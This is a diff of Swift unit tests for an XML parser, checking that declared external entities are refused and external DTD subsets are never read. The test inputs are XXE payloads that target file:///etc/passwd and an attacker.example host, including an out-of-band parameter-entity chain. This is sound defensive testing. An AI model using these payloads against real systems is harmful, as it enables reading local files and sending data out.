@@ -45,7 +45,7 @@ import Testing
         XMLTesting.expectError(document, .undefinedEntity("a"), line: 2, column: 9)
     }
 
-    @Test func externalEntityIsNeverRead() {
+    @Test func aDocumentDeclaringAnExternalEntityIsRefusedWhereItDeclaresIt() {
         let document = """
             <?xml version="1.0" encoding="ISO-8859-1"?>
             <!DOCTYPE foo [
@@ -53,15 +53,17 @@ import Testing
               <!ENTITY xxe SYSTEM "file:///etc/passwd" >]>
             <foo>&xxe;</foo>
             """
-        XMLTesting.expectError(document, .undefinedEntity("xxe"), line: 5, column: 6)
+        XMLTesting.expectError(document, .externalEntity("xxe"), line: 4, column: 3)
         XMLTesting.expectError(
-            "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"http://attacker.example/secret\">]><foo bar=\"&xxe;\"/>",
-            .undefinedEntity("xxe"), line: 1, column: 81
+            "<!DOCTYPE foo [<!ENTITY xxe PUBLIC \"-//X//Y\" \"http://attacker.example/secret\">]><foo/>",
+            .externalEntity("xxe"), line: 1, column: 16
         )
+        // Declared, even unused: a document that asks for something from outside.
+        XMLTesting.expectError("<!DOCTYPE foo [<!ENTITY\txxe\nSYSTEM 'x'>]><foo/>", .externalEntity("xxe"), line: 1, column: 16)
     }
 
-    @Test func externalParameterEntitiesAndExternalSubsetsAreSkipped() throws {
-        // Out-of-band XXE: the DTD would fetch more declarations; none is read or used.
+    @Test func externalParameterEntitiesAreRefusedAndAnExternalSubsetIsNeverRead() throws {
+        // Out-of-band XXE: the DTD would fetch more declarations.
         let outOfBand = """
             <?xml version="1.0"?>
             <!DOCTYPE data [
@@ -69,12 +71,13 @@ import Testing
               %remote;
               %init;
             ]>
-            <data>&send;</data>
+            <data a="1"/>
             """
-        XMLTesting.expectError(outOfBand, .undefinedEntity("send"), line: 7, column: 7)
-        let document = try XMLTesting.parse(outOfBand.replacingOccurrences(of: "<data>&send;</data>", with: "<data a=\"1\"/>"))
-        #expect(document.count == 1)
-        #expect(document.attribute("a", of: 0) == "1")
+        XMLTesting.expectError(outOfBand, .externalEntity("remote"), line: 3, column: 3)
+        // An internal entity whose text merely says SYSTEM is not external.
+        let quoted = try XMLTesting.parse("<!DOCTYPE foo [<!ENTITY note \"SYSTEM\"><!ENTITY % p 'PUBLIC'>]><foo x=\"1\"/>")
+        #expect(quoted.attribute("x", of: 0) == "1")
+        // The external subset a property list names is never read, and the document is read.
         let external = try XMLTesting.parse("<!DOCTYPE foo SYSTEM \"http://attacker.example/x.dtd\"><foo x=\"&amp;\"/>")
         #expect(external.attribute("x", of: 0) == "&")
     }
